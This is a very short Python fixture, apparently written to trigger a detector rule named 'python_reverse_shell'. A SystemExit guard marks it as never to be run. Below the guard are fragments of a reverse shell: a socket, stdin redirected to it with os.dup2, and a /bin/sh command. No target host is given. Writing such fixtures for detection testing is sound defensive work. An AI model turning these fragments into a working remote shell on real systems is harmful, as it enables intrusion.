# Trips python_reverse_shell.
raise SystemExit("a fixture: never run")
s = socket.socket()
os.dup2(s.fileno(), 0)
command = ["/bin/sh"]
